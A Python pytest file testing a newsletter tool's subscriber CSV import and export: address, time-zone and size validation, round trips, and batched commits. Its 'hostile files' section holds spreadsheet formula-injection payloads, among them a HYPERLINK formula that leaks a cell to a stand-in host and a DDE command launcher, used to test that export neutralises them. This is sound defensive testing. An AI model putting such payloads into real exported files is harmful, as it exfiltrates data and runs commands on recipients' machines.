"""`digest subscribers import/export`, run as a user runs them: the real CLI."""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import datetime, timezone
from pathlib import Path

import pytest
from digest_helpers import add_subscriber
from hypothesis import given
from hypothesis import strategies as st
from processes import digest_cli
from sqlalchemy import func, select
from support import subprocess_env

from digest.db import session_factory, session_scope
from digest.matching.topics import TopicsError, parse_topics
from digest.models import Paper, ReaderProfile, SignupRequest, Subscriber, SubscriberState, Vote, VoteSource
from digest.papers.vectors import represent
from digest.subscribers.lists import import_csv, neutralise, restore


def run(settings, *args, smtp_url=None):
    return digest_cli(subprocess_env(settings, **({"DIGEST_SMTP_URL": smtp_url} if smtp_url else {})), *args)


def write_csv(path: Path, rows: list[dict]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=["email", "topics", "frequency", "timezone"])
        writer.writeheader()
        writer.writerows(rows)
    return path


def test_import_creates_pending_subscribers_and_mails_each_a_confirmation(settings, smtp_server, tmp_path):
    path = write_csv(
        tmp_path / "list.csv",
        [
            {"email": "Ann@Example.org", "topics": 'diffusion\n"video generation"', "frequency": "weekly", "timezone": "Europe/Berlin"},
            {"email": "bob@example.org", "topics": "", "frequency": "", "timezone": ""},
        ],
    )
    result = run(settings, "subscribers", "import", str(path), smtp_url=smtp_server.url)
    assert result.returncode == 0, result.stderr
    assert "imported 2, already present 0, left before (not re-subscribed) 0, rejected 0" in result.stdout
    assert "confirmation emails: 2 sent" in result.stdout
    with session_scope(settings) as s:
        ann = s.scalar(select(Subscriber).where(Subscriber.email == "ann@example.org"))
        assert ann.state == SubscriberState.pending  # the row's preferences wait for the confirmation
        asked = s.get(SignupRequest, ann.id)
        assert asked.frequency.value == "weekly" and asked.timezone == "Europe/Berlin"
        assert asked.topics == 'diffusion\n"video generation"'
        bob = s.get(SignupRequest, s.scalar(select(Subscriber.id).where(Subscriber.email == "bob@example.org")))
        assert bob.frequency.value == "daily" and bob.timezone == "UTC" and bob.topics == ""
    assert sorted(m["To"] for m in smtp_server.messages) == ["ann@example.org", "bob@example.org"]
    assert all("/confirm/" in m.get_body(("plain",)).get_content() for m in smtp_server.messages)


def test_import_confirmed_makes_active_subscribers_with_a_due_time_and_sends_nothing(settings, smtp_server, tmp_path):
    path = write_csv(
        tmp_path / "list.csv", [{"email": "cy@example.org", "topics": "agents", "frequency": "daily", "timezone": "Asia/Tokyo"}]
    )
    result = run(settings, "subscribers", "import", "--confirmed", str(path), smtp_url=smtp_server.url)
    assert result.returncode == 0, result.stderr
    assert smtp_server.messages == []
    with session_scope(settings) as s:
        cy = s.scalar(select(Subscriber).where(Subscriber.email == "cy@example.org"))
        assert cy.state == SubscriberState.active and cy.confirmed_at is not None
        local = cy.next_due_at.astimezone(__import__("zoneinfo").ZoneInfo("Asia/Tokyo"))
        assert (local.hour, local.minute) == (7, 0) and cy.next_due_at > datetime.now(timezone.utc)


def test_import_confirmed_counts_the_papers_like_lines_name_as_seeds(settings, smtp_server, tmp_path, make_paper):
    with session_scope(settings) as s:
        make_paper("2611.00001", "Low-bit weight quantization of LLMs", session=s)
        represent(s)
    rows = [
        {"email": "cy@example.org", "topics": "agents\nlike:https://arxiv.org/abs/2611.00001", "frequency": "daily", "timezone": "UTC"},
        {"email": "di@example.org", "topics": "like:2611.09999", "frequency": "daily", "timezone": "UTC"},  # not stored yet
    ]
    result = run(settings, "subscribers", "import", "--confirmed", str(write_csv(tmp_path / "list.csv", rows)))
    assert result.returncode == 0, result.stderr
    assert "imported 2," in result.stdout
    with session_scope(settings) as s:
        votes = s.execute(
            select(Subscriber.email, Paper.arxiv_id, Vote.source)
            .join(Vote, Vote.subscriber_id == Subscriber.id)
            .join(Paper, Paper.id == Vote.paper_id)
        ).all()
        assert [tuple(v) for v in votes] == [("cy@example.org", "2611.00001", VoteSource.seed)]
        di = s.scalar(select(Subscriber).where(Subscriber.email == "di@example.org"))
        assert di.topics_text == "like:2611.09999" and s.get(ReaderProfile, di.id) is None


def test_import_reports_bad_rows_by_line_imports_the_rest_and_never_touches_existing(settings, tmp_path):
    with session_scope(settings) as s:
        s.add(Subscriber(email="left@example.org", state=SubscriberState.unsubscribed, created_at=datetime.now(timezone.utc)))
    path = write_csv(
        tmp_path / "list.csv",
        [
            {"email": "not an address", "topics": "", "frequency": "daily", "timezone": "UTC"},
            {"email": "ok@example.org", "topics": "", "frequency": "daily", "timezone": "UTC"},
            {"email": "tz@example.org", "topics": "", "frequency": "daily", "timezone": "Mars/Olympus"},
            {"email": "freq@example.org", "topics": "", "frequency": "hourly", "timezone": "UTC"},
            {"email": "topic@example.org", "topics": "upvotes:>=", "frequency": "daily", "timezone": "UTC"},
            {"email": "LEFT@example.org", "topics": "", "frequency": "daily", "timezone": "UTC"},
            {"email": "ok@example.org", "topics": "", "frequency": "daily", "timezone": "UTC"},
        ],
    )
    result = run(settings, "subscribers", "import", "--confirmed", str(path))
    assert result.returncode == 1
    assert "imported 1, already present 2, left before (not re-subscribed) 0, rejected 4" in result.stdout
    for line in ("line 2:", "line 4: unknown time zone 'Mars/Olympus'", "line 5: frequency must be daily or weekly", "line 6: topics:"):
        assert line in result.stdout
    assert "Traceback" not in result.stderr
    with session_scope(settings) as s:
        states = dict(s.execute(select(Subscriber.email, Subscriber.state)).all())
    assert states == {"left@example.org": SubscriberState.unsubscribed, "ok@example.org": SubscriberState.active}


def test_import_refuses_addresses_over_rfc_5321_limits_by_line_mails_none_and_imports_the_rest(settings, smtp_server, tmp_path):
    longest_domain = ".".join(["d" * 63, "d" * 63, "d" * 57, "org"])
    path = write_csv(
        tmp_path / "list.csv",
        [
            {"email": "a" * 65 + "@example.org", "topics": "", "frequency": "daily", "timezone": "UTC"},
            {"email": "ok@example.org", "topics": "", "frequency": "daily", "timezone": "UTC"},
            {"email": "b" + "a" * 64 + "@" + longest_domain, "topics": "", "frequency": "daily", "timezone": "UTC"},
            {"email": "a" * 64 + "@" + longest_domain, "topics": "", "frequency": "daily", "timezone": "UTC"},
        ],
    )
    result = run(settings, "subscribers", "import", str(path), smtp_url=smtp_server.url)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "imported 2, already present 0, left before (not re-subscribed) 0, rejected 2" in result.stdout
    assert "line 2: The part before @ is 65 characters long; mail servers accept at most 64." in result.stdout
    assert "line 4: This address is 255 characters long; mail servers accept at most 254." in result.stdout
    assert sorted(m.rcpt_tos[0] for m in smtp_server.captured) == sorted(["ok@example.org", "a" * 64 + "@" + longest_domain])
    with session_scope(settings) as s:
        assert sorted(s.scalars(select(Subscriber.email))) == sorted(["ok@example.org", "a" * 64 + "@" + longest_domain])


def test_import_without_an_email_column_fails_with_one_line(settings, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text("address,topics\nx@example.org,\n")
    result = run(settings, "subscribers", "import", str(path))
    assert result.returncode == 1
    assert result.stderr.strip().startswith("error:") and "email" in result.stderr and "Traceback" not in result.stderr


def test_export_round_trips_through_import(settings, tmp_path):
    rows = [
        {
            "email": f"user{i}@example.org",
            "topics": f'topic{i}\nauthor:"Ann Lee"',
            "frequency": "weekly" if i % 2 else "daily",
            "timezone": "America/New_York",
        }
        for i in range(25)
    ]
    assert run(settings, "subscribers", "import", "--confirmed", str(write_csv(tmp_path / "in.csv", rows))).returncode == 0
    result = run(settings, "subscribers", "export")
    assert result.returncode == 0 and "exported 25 subscribers" in result.stderr
    exported = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [{k: r[k] for k in ("email", "topics", "frequency", "timezone")} for r in exported] == rows
    assert {r["state"] for r in exported} == {"active"} and {r["delivery_hour"] for r in exported} == {"7"}


# ---------------------------------------------------------------- hostile files (issue 12)

HOSTILE = {  # address: topics, as stored (directly: some are not filters the language accepts)
    "hyperlink@example.org": '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "cmd@example.org": "=cmd|' /C calc'!A0",
    "sum@example.org": "@SUM(1+1)*cmd",
    "plus@example.org": "+1+cmd",
    "minus@example.org": "-survey",  # a real exclusion filter
    "quoted@example.org": "'=already quoted",
    "second-line@example.org": "agents\n=2+3",
    "=1+2@example.org": "robots",
    "-x@example.org": "@home",
}


def is_filter(topics: str) -> bool:
    try:
        parse_topics(topics)
    except TopicsError:
        return False
    return True


def test_export_neutralises_spreadsheet_formulas_and_import_reads_them_back_unchanged(settings, session, sqlite_database, tmp_path):
    for email, topics in HOSTILE.items():
        add_subscriber(session, email, topics.split("\n"))
    session.commit()

    result = run(settings, "subscribers", "export", "-o", str(tmp_path / "out.csv"))
    assert result.returncode == 0, result.stderr
    exported = list(csv.DictReader((tmp_path / "out.csv").open(newline="", encoding="utf-8")))
    cells = [value for row in exported for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell a spreadsheet would evaluate"
    assert {row["email"]: row["topics"] for row in exported} == {
        **{email: ("'" + topics if topics[0] in "=+-@'" else topics) for email, topics in HOSTILE.items() if email[0] not in "=-"},
        "'=1+2@example.org": "robots",
        "'-x@example.org": "'@home",
    }

    again = settings.with_(database_url=sqlite_database("again"))
    result = run(again, "subscribers", "import", "--confirmed", str(tmp_path / "out.csv"))
    accepted = {email: topics for email, topics in HOSTILE.items() if is_filter(topics)}
    assert len(accepted) >= 6, "the filter language refuses most of these: pick others"
    assert f"imported {len(accepted)}, already present 0" in result.stdout
    assert f"rejected {len(HOSTILE) - len(accepted)}" in result.stdout
    with session_scope(again) as s:
        assert {row.email: row.topics_text for row in s.scalars(select(Subscriber))} == accepted


@given(st.text(max_size=20))
def test_neutralise_and_restore_are_inverse_and_never_leave_a_formula(cell):
    assert restore(neutralise(cell)) == cell
    assert neutralise(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_field_over_the_csv_limit_stops_the_import_with_one_line_naming_it(settings, tmp_path):
    path = write_csv(
        tmp_path / "big.csv",
        [
            {"email": "before@example.org", "topics": "agents", "frequency": "daily", "timezone": "UTC"},
            {"email": "huge@example.org", "topics": "x" * 200_000, "frequency": "daily", "timezone": "UTC"},
            {"email": "after@example.org", "topics": "agents", "frequency": "daily", "timezone": "UTC"},
        ],
    )
    result = run(settings, "subscribers", "import", "--confirmed", str(path))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    (line,) = [line for line in result.stderr.splitlines() if not line.startswith("import: ")]  # beside the progress lines
    assert line.startswith(f"error: {path}: line 3: field larger than 131072 characters")
    assert "nothing imported from that line on" in line
    assert "imported 1, already present 0" in result.stdout
    with session_scope(settings) as s:
        assert list(s.scalars(select(Subscriber.email))) == ["before@example.org"]


@pytest.mark.parametrize(
    "row, message",
    [
        ({"topics": "agents\x00"}, "line 2: topics: line 1: control characters are not allowed"),
        ({"timezone": "localtime"}, "line 2: unknown time zone 'localtime'"),
        ({"timezone": "posixrules"}, "line 2: unknown time zone 'posixrules'"),
        ({"timezone": "Factory"}, "line 2: unknown time zone 'Factory'"),
    ],
)
def test_import_refuses_control_characters_and_files_that_are_not_zones(settings, tmp_path, row, message):
    path = write_csv(tmp_path / "list.csv", [{"email": "x@example.org", "topics": "", "frequency": "daily", "timezone": "UTC", **row}])
    result = run(settings, "subscribers", "import", "--confirmed", str(path))
    assert result.returncode == 1 and message in result.stdout
    with session_scope(settings) as s:
        assert s.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_a_rows_topic_errors_are_listed_twenty_at_most_then_counted(settings, tmp_path):
    path = write_csv(tmp_path / "list.csv", [{"email": "x@example.org", "topics": '"\n' * 500, "frequency": "daily", "timezone": "UTC"}])
    result = run(settings, "subscribers", "import", str(path))
    (line,) = [line for line in result.stdout.splitlines() if line.strip().startswith("line 2:")]
    assert line.count("unterminated quote") == 20 and line.endswith("; …and 481 more problems") and len(line) < 2000


def test_a_long_import_commits_every_few_hundred_rows_and_leaves_the_database_free_between(settings, sqlite_database, tmp_path):
    """SQLite has one writer: between two parts of an import a sign-up gets the lock at once."""
    settings = settings.with_(database_url=sqlite_database("import"))
    rows = "email,topics\n" + "".join(f"user{i}@example.org,agents\n" for i in range(130))
    seen: list[tuple[int, int]] = []
    other = sqlite3.connect(settings.database_url.removeprefix("sqlite:///"), timeout=0)

    def committed(ids: list[int]) -> None:
        other.execute("BEGIN IMMEDIATE")  # a writer elsewhere: raises "database is locked" if the import held it
        seen.append((len(ids), other.execute("SELECT count(*) FROM subscribers").fetchone()[0]))
        other.rollback()

    with session_factory(settings)() as session:
        report = import_csv(
            session, settings, io.StringIO(rows), datetime.now(timezone.utc), confirmed=False, commit_every=50, committed=committed
        )
    other.close()
    assert report.created == 130 and seen == [(50, 50), (50, 100), (30, 130)]
